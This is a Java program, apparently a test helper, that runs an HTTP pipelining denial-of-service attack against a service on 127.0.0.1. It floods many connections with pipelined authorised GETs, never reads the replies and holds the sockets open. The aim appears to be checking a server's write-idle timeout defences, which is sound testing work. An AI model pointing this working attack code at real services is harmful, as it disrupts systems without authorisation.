import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The pipelining attack of pipelining.sh: CONNECTIONS connections to 127.0.0.1:PORT, each sending
 * REQUESTS pipelined GETs of PATH with AUTHORIZATION and never reading, held open SECONDS.
 *
 *   java Pipelining.java PORT CONNECTIONS REQUESTS PATH AUTHORIZATION SECONDS
 */
public class Pipelining {

    public static void main(String[] args) throws Exception {
        int port = Integer.parseInt(args[0]);
        int connections = Integer.parseInt(args[1]);
        int requests = Integer.parseInt(args[2]);
        byte[] request = ("GET " + args[3] + " HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: " + args[4] + "\r\n\r\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        List<Socket> sockets = new ArrayList<>();
        for (int i = 0; i < connections; i++) {
            Socket socket = new Socket();
            socket.setReceiveBufferSize(2048);
            socket.connect(new InetSocketAddress("127.0.0.1", port), 5_000);
            sockets.add(socket);
            OutputStream out = socket.getOutputStream();
            Thread sender = new Thread(() -> {
                try {
                    for (int n = 0; n < requests; n++) {
                        out.write(request);
                    }
                } catch (IOException closed) {
                    // the service closed it (write-idle timeout) or the attack ended
                }
            });
            sender.setDaemon(true);
            sender.start();
        }
        Thread.sleep(Long.parseLong(args[5]) * 1000);
        for (Socket socket : sockets) {
            socket.close();
        }
    }
}
